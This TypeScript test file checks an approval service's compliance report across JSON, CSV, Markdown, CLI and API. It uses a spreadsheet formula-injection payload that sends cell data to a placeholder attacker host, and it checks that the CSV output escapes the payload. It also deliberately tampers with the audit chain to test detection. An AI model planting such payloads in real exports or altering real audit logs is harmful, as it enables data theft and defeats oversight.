// The compliance report (spec §8): a seeded day with every kind of outcome, checked row by row and
// number by number in JSON, CSV and Markdown, through generateReport, the CLI and the API; a
// tampered chain makes the report say so and the CLI exit 1; every run is audited.
import { randomUUID } from 'node:crypto';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { cancelRequest } from '../../apps/server/src/approvals/cancel-request.ts';
import { expireOverdueRequests } from '../../apps/server/src/approvals/expire-requests.ts';
import { recordDecision } from '../../apps/server/src/approvals/record-decision.ts';
import { generateReport, type ReportFormat } from '../../apps/server/src/audit/report/generate-report.ts';
import { parseReportPeriod } from '../../apps/server/src/audit/report/report-period.ts';
import type { ReportRow } from '../../apps/server/src/audit/report/report-rows.ts';
import type { ReportSummary } from '../../apps/server/src/audit/report/report-summary.ts';
import type { Deps } from '../../apps/server/src/deps.ts';
import { createApproval, expectProblem } from '../support/api-fixtures.ts';
import { cliEnv, describeRun, killRunningClis, runCli } from '../support/cli.ts';
import { SettableClock } from '../support/settable-clock.ts';
import { startTestServer } from '../support/test-server.ts';
import {
  approver,
  createTestRequest,
  expectAppError,
  openMigratedDatabase,
  policyFromYaml,
  testClientId,
  testDeps,
  type MigratedDatabase,
} from '../support/use-case-fixtures.ts';

interface ChainEvent {
  seq: string;
  type: string;
  requestId: string | null;
  actor: string;
  payload: Record<string, unknown>;
  hash: string;
}

/** Every audit event in chain order (seq compared as a number). */
async function chainEvents(): Promise<ChainEvent[]> {
  const { rows } = await m.db.pool.query<ChainEvent>(
    `SELECT seq::text AS seq, type, request_id AS "requestId", actor, payload, hash
       FROM audit_events ORDER BY audit_events.seq`,
  );
  return rows;
}

const POLICY = `
groups:
  ops: [alice@example.com, bob@example.com, carol@example.com]
rules:
  - { name: reads, actions: ['*.read'], autoApprove: true, when: { context: /rows, lte: 1000 } }
  - { name: ops, actions: ['*'], approvers: [group:ops], expiresIn: 1h, channel: 'slack:C0OPS' }
`;

const INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
const PERIOD = parseReportPeriod({ from: '2030-01-01', to: '2030-01-01' }, new Date());
const at = (hhmmss: string) => new Date(`2030-01-01T${hhmmss}.000Z`);

let m: MigratedDatabase;
let deps: Deps;
let clock: SettableClock;
let ids: Record<
  'approved' | 'denied' | 'expiredAtClick' | 'auto' | 'cancelled' | 'expired' | 'pending',
  string
>;
let seeded: ChainEvent[];

beforeAll(async () => {
  m = await openMigratedDatabase();
  clock = new SettableClock(at('09:00:00'));
  deps = testDeps(m.db, { policy: policyFromYaml(POLICY), clock });
  const decide = (requestId: string, email: string | null, verdict: 'approve' | 'deny', reason?: string) =>
    recordDecision(deps, { requestId, verdict, approver: approver(email), ...(reason ? { reason } : {}) });

  const approved = await createTestRequest(deps, { title: INJECTION, agent: { name: 'deploy-bot' } });
  clock.set(at('09:00:30'));
  await expectAppError(decide(approved.id, 'alice@example.com', 'approve'), 'SELF_APPROVAL_FORBIDDEN');
  await expectAppError(decide(approved.id, 'dave@example.com', 'approve'), 'NOT_ELIGIBLE');
  await expectAppError(decide(approved.id, null, 'approve'), 'IDENTITY_UNRESOLVED');
  clock.set(at('09:01:30'));
  await decide(approved.id, 'bob@example.com', 'approve');
  clock.set(at('09:02:00'));
  await expectAppError(decide(approved.id, 'carol@example.com', 'approve'), 'ALREADY_DECIDED');

  clock.set(at('09:10:00'));
  const denied = await createTestRequest(deps, { action: 'prod.deploy', title: 'Deploy | v2' });
  clock.set(at('09:15:00'));
  await decide(denied.id, 'carol@example.com', 'deny', 'not now');

  clock.set(at('09:20:00'));
  const expiredAtClick = await createTestRequest(deps);
  clock.set(at('09:21:00'));
  const auto = await createTestRequest(deps, { action: 'db.read', context: { rows: 1 } });
  clock.set(at('09:22:00'));
  const cancelled = await createTestRequest(deps, {
    action: 'prod.restart',
    requester: { email: 'bob@example.com' },
  });
  clock.set(at('09:23:00'));
  await cancelRequest(deps, await testClientId(m.db), cancelled.id, { reason: 'changed my mind' });
  clock.set(at('09:24:00'));
  const expired = await createTestRequest(deps, { action: 'prod.deploy' });
  clock.set(at('10:20:30'));
  await expectAppError(decide(expiredAtClick.id, 'bob@example.com', 'approve'), 'REQUEST_EXPIRED');
  clock.set(at('10:30:00'));
  await expireOverdueRequests(deps);
  clock.set(at('10:40:00'));
  const pending = await createTestRequest(deps);
  ids = {
    approved: approved.id,
    denied: denied.id,
    expiredAtClick: expiredAtClick.id,
    auto: auto.id,
    cancelled: cancelled.id,
    expired: expired.id,
    pending: pending.id,
  };

  // Cards and delivery outcomes, as the chat and delivery workers would leave them.
  const card = `INSERT INTO chat_cards (request_id, channel, message_id) VALUES ($1, 'slack:C0OPS', $2)`;
  await m.db.pool.query(card, [approved.id, '1893488400.000100']);
  await m.db.pool.query(card, [denied.id, null]);
  const delivery = `INSERT INTO callback_deliveries (id, request_id, url, status, verdict, attempt_count)
                    VALUES ($1, $2, 'https://hooks.example.com/cs', $3, $4, $5)`;
  await m.db.pool.query(delivery, [randomUUID(), approved.id, 'succeeded', 'approved', 1]);
  await m.db.pool.query(delivery, [randomUUID(), denied.id, 'failed', 'denied', 5]);
  seeded = await chainEvents();
  // Report runs are recorded after the period, so they do not move its first and last event.
  clock.set(new Date('2030-01-03T00:00:00.000Z'));
}, 120_000);

afterAll(async () => {
  await m?.close();
});

afterEach(async () => {
  await killRunningClis();
});

class Collect extends Writable {
  text = '';
  override _write(chunk: Buffer, _enc: BufferEncoding, done: () => void): void {
    this.text += chunk.toString('utf8');
    done();
  }
}

async function report(format: ReportFormat, filters = {}) {
  const out = new Collect();
  const result = await generateReport({
    db: m.db,
    period: PERIOD,
    format,
    filters,
    out,
    actor: 'cli:tester',
    now: () => clock.now(),
  });
  return { ...result, text: out.text };
}

const APPROVED_AT = '2030-01-01T09:01:30.000Z';

function expectedRows(): Partial<ReportRow>[] {
  return [
    {
      id: ids.approved,
      action: 'db.export',
      title: INJECTION,
      requester: 'alice@example.com',
      requesterProof: 'claimed by key use-case tests',
      agent: 'deploy-bot',
      policyRule: 'ops',
      approvers: [
        {
          email: 'bob@example.com',
          platform: 'slack',
          verdict: 'approve',
          reason: null,
          at: APPROVED_AT,
          eligibleThrough: 'group:ops',
        },
      ],
      timeToDecisionSeconds: 90,
      status: 'approved',
      chat: [{ channel: 'slack:C0OPS', messageId: '1893488400.000100' }],
      callback: { status: 'succeeded', attempts: 1 },
    },
    {
      id: ids.denied,
      action: 'prod.deploy',
      title: 'Deploy | v2',
      approvers: [
        {
          email: 'carol@example.com',
          platform: 'slack',
          verdict: 'deny',
          reason: 'not now',
          at: '2030-01-01T09:15:00.000Z',
          eligibleThrough: 'group:ops',
        },
      ],
      timeToDecisionSeconds: 300,
      status: 'denied',
      chat: [{ channel: 'slack:C0OPS', messageId: null }],
      callback: { status: 'failed', attempts: 5 },
    },
    { id: ids.expiredAtClick, approvers: [], timeToDecisionSeconds: null, status: 'expired', callback: null },
    {
      id: ids.auto,
      action: 'db.read',
      policyRule: 'reads',
      approvers: [
        {
          email: 'policy:reads',
          platform: 'policy',
          verdict: 'approve',
          reason: null,
          at: '2030-01-01T09:21:00.000Z',
          eligibleThrough: 'policy autoApprove',
        },
      ],
      timeToDecisionSeconds: 0,
      status: 'approved',
      chat: [],
    },
    { id: ids.cancelled, action: 'prod.restart', requester: 'bob@example.com', status: 'cancelled' },
    { id: ids.expired, action: 'prod.deploy', status: 'expired', timeToDecisionSeconds: null },
    { id: ids.pending, status: 'pending', decidedAt: null, timeToDecisionSeconds: null },
  ];
}

function expectedSummary(): Partial<ReportSummary> {
  const first = seeded[0];
  const last = seeded[seeded.length - 1];
  return {
    requests: 7,
    byStatus: { pending: 1, approved: 2, denied: 1, expired: 2, cancelled: 1 },
    byVerdict: { approve: 2, deny: 1, autoApproved: 1 },
    refusedByReason: {
      self_approval: 1,
      not_eligible: 1,
      identity_unresolved: 1,
      already_decided: 1,
      expired: 1,
      foreign_tenant: 0,
      deprovisioned: 0,
    },
    expiries: 2,
    timeToDecision: { decided: 3, medianSeconds: 90, p95Seconds: 300 },
    topActions: [
      { action: 'db.export', count: 3 },
      { action: 'prod.deploy', count: 2 },
      { action: 'db.read', count: 1 },
      { action: 'prod.restart', count: 1 },
    ],
    chain: expect.objectContaining({
      intact: true,
      verification: expect.objectContaining({ intact: true }) as unknown,
      firstEvent: { seq: first?.seq, hash: first?.hash, occurredAt: '2030-01-01T09:00:00.000Z' },
      lastEvent: { seq: last?.seq, hash: last?.hash, occurredAt: '2030-01-01T10:40:00.000Z' },
    }) as ReportSummary['chain'],
  };
}

describe('generateReport', () => {
  it('JSON: one row per request of the period, in creation order, and the summary numbers', async () => {
    const { text, rows } = await report('json');
    const parsed = JSON.parse(text) as { period: unknown; rows: ReportRow[]; summary: ReportSummary };
    expect(rows).toBe(7);
    expect(parsed.period).toEqual({ from: '2030-01-01T00:00:00.000Z', to: '2030-01-02T00:00:00.000Z' });
    expect(parsed.rows).toEqual(expectedRows().map((row) => expect.objectContaining(row) as unknown));
    expect(parsed.rows[0]?.payloadDigest).toMatch(/^[0-9a-f]{64}$|^sha256:/);
    expect(parsed.summary).toMatchObject(expectedSummary());
    expect(parsed.summary.chain.firstEvent?.seq).toBe('1');
    expect(seeded.at(-1)?.type).toBe('request.created');
  });

  it('CSV: RFC 4180 that parses back, with the formula in the title escaped', async () => {
    const { text } = await report('csv');
    expect(text).toContain('\r\n');
    const records = parse<Record<string, string>>(text, {
      columns: true,
      comment: '#',
      comment_no_infix: true,
    });
    expect(records.map((r) => r['id'])).toEqual(Object.values(ids));
    const first = records[0] ?? {};
    expect(first['title']).toBe(`'${INJECTION}`);
    expect(first).toMatchObject({
      action: 'db.export',
      requester: 'alice@example.com',
      agent: 'deploy-bot',
      policy_rule: 'ops',
      approvers: `bob@example.com approve ${APPROVED_AT}`,
      approvers_eligible_through: 'bob@example.com: group:ops',
      time_to_decision_seconds: '90',
      status: 'approved',
      chat: 'slack:C0OPS 1893488400.000100',
      callback_status: 'succeeded',
      callback_attempts: '1',
    });
    expect(records[1]).toMatchObject({
      title: 'Deploy | v2',
      approvers: 'carol@example.com deny 2030-01-01T09:15:00.000Z (not now)',
      callback_status: 'failed',
      callback_attempts: '5',
    });
    expect(records[2]).toMatchObject({
      status: 'expired',
      callback_status: 'none',
      time_to_decision_seconds: '',
    });
    expect(records[3]).toMatchObject({ approvers: 'policy:reads approve 2030-01-01T09:21:00.000Z' });
  });

  it('Markdown: the summary first with its numbers, then one escaped table row per request', async () => {
    const { text } = await report('md');
    const summaryAt = text.indexOf('## Summary');
    const rowsAt = text.indexOf('## Requests');
    expect(summaryAt).toBeGreaterThan(0);
    expect(rowsAt).toBeGreaterThan(summaryAt);
    expect(text).toContain('**INTACT**');
    for (const line of [
      '| requests | 7 |',
      '| approved | 2 |',
      '| denied | 1 |',
      '| expired | 2 |',
      '| cancelled | 1 |',
      '| pending | 1 |',
      '| auto-approved by policy | 1 |',
      '| median time to decision | 90 s |',
      '| p95 time to decision | 300 s |',
      '| self_approval | 1 |',
      '| not_eligible | 1 |',
      '| identity_unresolved | 1 |',
      '| already_decided | 1 |',
      '| expired | 1 |',
      '| db.export | 3 |',
    ]) {
      expect(text).toContain(line);
    }
    expect(text).toContain(`seq ${seeded[0]?.seq}`);
    const tableRows = text
      .slice(rowsAt)
      .split('\n')
      .filter((l) => /^\| [0-9a-f-]{36} \|/.test(l));
    expect(tableRows).toHaveLength(7);
    expect(text).toContain('Deploy \\| v2');
  });

  it('filters by action glob and requester', async () => {
    const byAction = JSON.parse((await report('json', { action: 'prod.*' })).text) as {
      rows: ReportRow[];
      summary: ReportSummary;
    };
    expect(byAction.rows.map((r) => r.id)).toEqual([ids.denied, ids.cancelled, ids.expired]);
    expect(byAction.summary.refusedByReason.self_approval).toBe(0);
    const byRequester = JSON.parse((await report('json', { requester: 'BOB@example.com' })).text) as {
      rows: ReportRow[];
    };
    expect(byRequester.rows.map((r) => r.id)).toEqual([ids.cancelled]);
  });

  it('records every run as a report.generated audit event', async () => {
    const before = (await chainEvents()).length;
    await report('csv', { action: 'db.*' });
    const events = await chainEvents();
    expect(events).toHaveLength(before + 1);
    expect(events.at(-1)).toMatchObject({
      type: 'report.generated',
      requestId: null,
      actor: 'cli:tester',
      payload: {
        from: '2030-01-01T00:00:00.000Z',
        to: '2030-01-02T00:00:00.000Z',
        format: 'csv',
        filters: { action: 'db.*', requester: null },
        rows: 4,
        chainIntact: true,
      },
    });
  });
});

describe('countersign audit report', () => {
  it('writes the report to --out and records the OS user as the actor', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'countersign-report-'));
    try {
      const file = join(dir, 'report.json');
      const env = cliEnv({ DATABASE_URL: m.database.url });
      const result = await runCli(
        ['audit', 'report', '--from', '2030-01-01', '--to', '2030-01-01', '--format', 'json', '--out', file],
        env,
      );
      expect(result.code, describeRun(result)).toBe(0);
      expect(result.stderr).toContain('report: 7 rows; audit chain intact');
      const parsed = JSON.parse(await readFile(file, 'utf8')) as { summary: ReportSummary };
      expect(parsed.summary).toMatchObject(expectedSummary());
      expect((await chainEvents()).at(-1)).toMatchObject({
        type: 'report.generated',
        actor: expect.stringMatching(/^cli:.+/) as string,
      });

      const bad = await runCli(['audit', 'report', '--from', 'yesterday'], env);
      expect(bad.code, describeRun(bad)).toBe(2);
      const eventsBefore = (await chainEvents()).length;
      const unwritable = await runCli(['audit', 'report', '--out', join(dir, 'missing', 'r.csv')], env);
      expect(unwritable.code, describeRun(unwritable)).toBe(2);
      expect(unwritable.stderr).toContain('cannot write --out');
      expect(unwritable.stderr).toContain('ENOENT');
      expect(await chainEvents()).toHaveLength(eventsBefore);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});

describe('GET /v1/audit/report', () => {
  it('streams the report to an audit:read key, as the key’s client, and refuses others', async () => {
    const t = await startTestServer();
    try {
      const approvals = await t.createKey('approvals-only');
      const auditor = await t.createKey('auditor', ['audit:read']);
      const created = await createApproval(t, approvals.key, { title: '+cmd' });

      const csv = await fetch(`${t.url}/v1/audit/report?from=1d&format=csv`, {
        headers: { authorization: `Bearer ${auditor.key}` },
      });
      expect(csv.status).toBe(200);
      expect(csv.headers.get('content-type')).toMatch(/^text\/csv/);
      const records = parse<Record<string, string>>(await csv.text(), {
        columns: true,
        comment: '#',
        comment_no_infix: true,
      });
      expect(records).toMatchObject([{ id: created.id, title: `'+cmd` }]);

      const json = await t.call<{ rows: ReportRow[]; summary: ReportSummary }>(
        'GET',
        '/v1/audit/report?from=1d&format=json&action=db.*',
        { key: auditor.key },
      );
      expect(json.status).toBe(200);
      expect(json.body.rows.map((r) => r.id)).toEqual([created.id]);
      expect(json.body.summary).toMatchObject({ requests: 1, chain: { intact: true } });

      const md = await fetch(`${t.url}/v1/audit/report?format=md`, {
        headers: { authorization: `Bearer ${auditor.key}` },
      });
      expect(md.headers.get('content-type')).toMatch(/^text\/markdown/);
      expect(await md.text()).toContain('| requests | 1 |');

      const db = t.server.db;
      const { rows } = await db.pool.query<{ actor: string; payload: { format: string } }>(
        `SELECT actor, payload FROM audit_events WHERE type = 'report.generated' ORDER BY seq`,
      );
      expect(rows.map((r) => [r.actor, r.payload.format])).toEqual([
        [`client:${auditor.clientId}`, 'csv'],
        [`client:${auditor.clientId}`, 'json'],
        [`client:${auditor.clientId}`, 'md'],
      ]);

      expectProblem(await t.call('GET', '/v1/audit/report', { key: approvals.key }), 'INSUFFICIENT_SCOPE');
      expectProblem(
        await t.call('GET', '/v1/audit/report?from=soon', { key: auditor.key }),
        'VALIDATION_FAILED',
      );
      expectProblem(
        await t.call('GET', '/v1/audit/report?from=2030-02-01&to=2030-01-01', { key: auditor.key }),
        'VALIDATION_FAILED',
      );
    } finally {
      await t.close();
    }
  });
});

// Runs last: it leaves the chain tampered.
describe('a tampered chain', () => {
  it('makes the report say NOT INTACT and the CLI exit 1, with the report still written', async () => {
    const sql = (text: string) => m.db.pool.query(text);
    await sql('ALTER TABLE audit_events DISABLE TRIGGER USER');
    try {
      await sql(`UPDATE audit_events SET payload = payload || '{"verdict":"deny"}' WHERE seq = 5`);
    } finally {
      await sql('ALTER TABLE audit_events ENABLE TRIGGER USER');
    }
    const { summary, text } = await report('md');
    expect(summary.chain).toMatchObject({
      intact: false,
      verification: { intact: false, firstBadSeq: '5', problem: 'hash_mismatch' },
    });
    expect(text).toContain('**NOT INTACT**');
    expect(text).toContain('| requests | 7 |');

    const result = await runCli(
      ['audit', 'report', '--from', '2030-01-01', '--to', '2030-01-01', '--format', 'csv'],
      cliEnv({ DATABASE_URL: m.database.url }),
    );
    expect(result.code, describeRun(result)).toBe(1);
    expect(result.stderr).toContain('AUDIT CHAIN NOT INTACT at seq 5 (hash_mismatch)');
    expect(parse(result.stdout, { columns: true, comment: '#', comment_no_infix: true })).toHaveLength(7);
  });
});
